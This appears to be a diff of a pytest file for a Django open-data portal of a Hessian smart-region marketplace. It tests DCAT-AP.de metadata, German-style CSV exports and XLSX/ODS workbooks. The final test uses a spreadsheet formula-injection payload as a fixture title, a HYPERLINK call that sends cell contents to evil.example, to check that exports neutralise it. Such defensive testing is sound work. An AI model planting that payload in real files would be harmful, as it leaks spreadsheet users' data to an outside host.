@@ -6,6 +6,13 @@ import pytest
 from accounts.tests.factories import MunicipalityFactory
 
 pytestmark = pytest.mark.django_db
+IANA = "https://www.iana.org/assignments/media-types/"
+
+
+def read_csv(response):
+    """The rows a German spreadsheet (and Python's csv with ';') reads from a download."""
+    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark"
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
 
 
 def test_dcat_jsonld_describes_every_dataset_with_licence_and_files(client):
@@ -17,12 +24,15 @@ def test_dcat_jsonld_describes_every_dataset_with_licence_and_files(client):
     for dataset in doc["dcat:dataset"]:
         assert dataset["@type"] == "dcat:Dataset"
         assert dataset["dct:license"]["@id"].startswith("http://dcat-ap.de/def/licenses/")
-        assert dataset["dcatde:licenseAttributionByText"]
         for distribution in dataset["dcat:distribution"]:
+            # GovData's harvester reads the attribution text only from distributions.
+            assert distribution["dcatde:licenseAttributionByText"]["@language"] == "de"
+            assert distribution["dct:license"] == dataset["dct:license"]
             path = distribution["dcat:downloadURL"]["@id"].split("127.0.0.1:8000")[-1]
             file = client.get(path)
             assert file.status_code == 200, path
-            assert file["Content-Type"].startswith(distribution["dcat:mediaType"])
+            media_type = distribution["dcat:mediaType"]["@id"].removeprefix(IANA)
+            assert file["Content-Type"].split(";")[0] == media_type
 
 
 def test_accept_header_selects_jsonld(client):
@@ -43,7 +53,7 @@ def test_municipality_register_csv(client):
     MunicipalityFactory(ags="06632002", name="Bad Hersfeld")
     response = client.get("/opendata/kommunen.csv")
     assert response["Content-Disposition"] == 'attachment; filename="kommunen.csv"'
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = read_csv(response)
     assert [(r["ags"], r["name"]) for r in rows] == [("06632002", "Bad Hersfeld")]
 
 
@@ -63,10 +73,14 @@ def test_catalog_files_hold_only_published_solutions_with_licence_and_date(clien
     assert [s["title"] for s in document["solutions"]] == ["Parkleitsystem"]
     assert response["Link"] == '<http://dcat-ap.de/def/licenses/cc-by/4.0>; rel="license"'
     assert response["Last-Modified"]
-    rows = list(csv.DictReader(io.StringIO(client.get("/opendata/katalog.csv").content.decode())))
+    rows = read_csv(client.get("/opendata/katalog.csv"))
     assert [(r["title"], r["topics"]) for r in rows] == [("Parkleitsystem", "mobilitaet")]
     dcat = client.get("/opendata/?format=jsonld").json()
-    catalog = next(d for d in dcat["dcat:dataset"] if d["dct:identifier"] == "katalog")
+    catalog = next(
+        d
+        for d in dcat["dcat:dataset"]
+        if d["dct:identifier"] == "http://127.0.0.1:8000/opendata/#katalog"
+    )
     assert catalog["dct:license"]["@id"] == "http://dcat-ap.de/def/licenses/cc-by/4.0"
     published.refresh_from_db()
     assert catalog["dct:modified"]["@value"] == published.updated_at.isoformat()
@@ -96,7 +110,7 @@ def test_catalog_files_carry_free_texts_only_of_consenting_providers(client, mun
     solution(True, "offen")
     solution(False, "zu")
     raw_json = client.get("/opendata/katalog.json").content.decode()
-    raw_csv = client.get("/opendata/katalog.csv").content.decode()
+    raw_csv = client.get("/opendata/katalog.csv").content.decode("utf-8-sig")
     for text in ("Profiltext", "Kurztext", "Langtext", "Preistext", "Referenztext"):
         assert f"{text}-offen" in raw_json, text
         assert f"{text}-zu" not in raw_json and f"{text}-zu" not in raw_csv, text
@@ -112,6 +126,148 @@ def test_catalog_files_carry_free_texts_only_of_consenting_providers(client, mun
     assert "summary" not in closed and "description" not in closed
     provider = next(p for p in document["providers"] if p["id"] == closed["provider"])
     assert provider["name"] == "Anbieter zu" and "description" not in provider
-    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(raw_csv))}
+    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(raw_csv), delimiter=";")}
     assert rows["Lösung zu"]["summary"] == "" and rows["Lösung zu"]["provider"] == "Anbieter zu"
     assert rows["Lösung offen"]["summary"] == "Kurztext-offen"
+
+
+@pytest.fixture
+def opendata_settings(settings):
+    settings.OPENDATA_CONTRIBUTOR_ID = "hessen"
+    settings.OPENDATA_CONTACT_EMAIL = "opendata@smarte-region.example"
+    settings.OPENDATA_ISSUED = "2026-12-01"
+    return settings
+
+
+def test_dcat_follows_dcat_ap_de_in_german_whatever_the_request_language(client, opendata_settings):
+    MunicipalityFactory(ags="06632002", name="Bad Hersfeld", population_date="2024-12-31")
+    doc = client.get("/opendata/?format=jsonld", headers={"Accept-Language": "en"}).json()
+    assert doc["dct:title"] == {
+        "@value": "Smart Region Marktplatz – Offene Daten",
+        "@language": "de",
+    }
+    assert doc["dct:issued"] == {"@type": "xsd:date", "@value": "2026-12-01"}
+    register = next(d for d in doc["dcat:dataset"] if d["@id"].endswith("#kommunen"))
+    assert register["dct:identifier"] == "http://127.0.0.1:8000/opendata/#kommunen"
+    assert register["dcat:landingPage"] == {"@id": "http://127.0.0.1:8000/opendata/#kommunen"}
+    assert register["dct:title"] == {"@value": "Kommunen in Hessen", "@language": "de"}
+    assert {"@value": "Gemeindeverzeichnis", "@language": "de"} in register["dcat:keyword"]
+    assert register["dcatde:contributorID"] == {"@id": "http://dcat-ap.de/def/contributors/hessen"}
+    assert register["dcatde:politicalGeocodingURI"] == {
+        "@id": "http://dcat-ap.de/def/politicalGeocoding/stateKey/06"
+    }
+    assert register["dcatde:politicalGeocodingLevelURI"] == {
+        "@id": "http://dcat-ap.de/def/politicalGeocoding/Level/state"
+    }
+    assert register["dcat:contactPoint"] == {
+        "@type": "vcard:Organization",
+        "vcard:fn": "Geschäftsstelle Smarte Region Hessen",
+        "vcard:hasURL": {"@id": "http://127.0.0.1:8000/opendata/"},
+        "vcard:hasEmail": {"@id": "mailto:opendata@smarte-region.example"},
+    }
+    assert register["dct:issued"] == {"@type": "xsd:date", "@value": "2026-12-01"}
+    assert register["dct:modified"] == {"@type": "xsd:date", "@value": "2024-12-31"}
+    media_types = {
+        d["dcat:downloadURL"]["@id"]: d["dcat:mediaType"] for d in register["dcat:distribution"]
+    }
+    assert media_types == {
+        "http://127.0.0.1:8000/opendata/kommunen.csv": {"@id": IANA + "text/csv"},
+        "http://127.0.0.1:8000/opendata/kommunen.xlsx": {
+            "@id": IANA + "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+        },
+        "http://127.0.0.1:8000/opendata/kommunen.ods": {
+            "@id": IANA + "application/vnd.oasis.opendocument.spreadsheet"
+        },
+    }
+    formats = [d["dct:format"]["@id"].rsplit("/", 1)[-1] for d in register["dcat:distribution"]]
+    assert formats == ["CSV", "XLSX", "ODS"]
+
+
+def test_contributor_id_is_left_out_until_the_operator_sets_it(client, settings):
+    settings.OPENDATA_CONTRIBUTOR_ID = ""
+    doc = client.get("/opendata/?format=jsonld").json()
+    assert all("dcatde:contributorID" not in d for d in doc["dcat:dataset"])
+
+
+def test_both_representations_of_the_catalog_vary_on_accept(client):
+    jsonld = client.get("/opendata/", headers={"Accept": "application/ld+json"})
+    html = client.get("/opendata/")
+    assert jsonld["Content-Type"] == "application/ld+json; charset=utf-8"
+    assert html["Content-Type"] == "text/html; charset=utf-8"
+    for response in (jsonld, html):
+        assert "Accept" in [v.strip() for v in response["Vary"].split(",")]
+
+
+def test_register_is_modified_at_its_reference_date(client):
+    MunicipalityFactory(ags="06632002", population_date="2024-12-31")
+    MunicipalityFactory(ags="06631009", population_date="2023-12-31")
+    response = client.get("/opendata/kommunen.csv")
+    assert response["Last-Modified"] == "Tue, 31 Dec 2024 00:00:00 GMT"
+    page = client.get("/opendata/").content.decode()
+    assert '<time datetime="2024-12-31">31.12.2024</time>' in page
+
+
+def test_register_csv_reads_in_a_german_spreadsheet(client):
+    MunicipalityFactory(
+        ags="06632002", name="Bad Hersfeld", population_date="2024-12-31", lat="50.867500"
+    )
+    response = client.get("/opendata/kommunen.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.content.split(b"\r\n")[0] == (
+        b"\xef\xbb\xbfags;name;kind;district_ags;district;region;population;population_date;lat;lon"
+    )
+    (row,) = read_csv(response)
+    assert (row["ags"], row["district_ags"], row["population_date"], row["lat"]) == (
+        "06632002",
+        "06632",
+        "31.12.2024",
+        "50,867500",
+    )
+
+
+def test_register_workbooks_keep_ags_keys_as_text(client):
+    import openpyxl
+    from odf import opendocument, table, text
+
+    MunicipalityFactory(ags="06632002", name="Bad Hersfeld", population_date="2024-12-31")
+    response = client.get("/opendata/kommunen.xlsx")
+    assert response["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    assert response["Content-Disposition"] == 'attachment; filename="kommunen.xlsx"'
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header, row = [[c.value for c in r] for r in sheet.iter_rows()]
+    values = dict(zip(header, row, strict=True))
+    assert (values["ags"], values["district_ags"], values["population"]) == (
+        "06632002",
+        "06632",
+        20000,
+    )
+    assert values["population_date"].date().isoformat() == "2024-12-31"
+
+    response = client.get("/opendata/kommunen.ods")
+    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
+    document = opendocument.load(io.BytesIO(response.content))
+    rows = document.spreadsheet.getElementsByType(table.TableRow)
+    cells = [r.getElementsByType(table.TableCell) for r in rows]
+    header = [str(c.getElementsByType(text.P)[0]) for c in cells[0]]
+    ags = cells[1][header.index("ags")]
+    assert (ags.getAttribute("valuetype"), str(ags.getElementsByType(text.P)[0])) == (
+        "string",
+        "06632002",
+    )
+
+
+def test_catalog_files_never_hand_a_formula_to_a_spreadsheet(client):
+    import openpyxl
+
+    from catalog.tests.factories import SolutionFactory
+
+    title = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'
+    SolutionFactory(title=title)
+    (row,) = read_csv(client.get("/opendata/katalog.csv"))
+    assert row["title"] == "'" + title
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/opendata/katalog.xlsx").content)).active
+    header = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("title") + 1)
+    assert (cell.data_type, cell.value) == ("s", title)
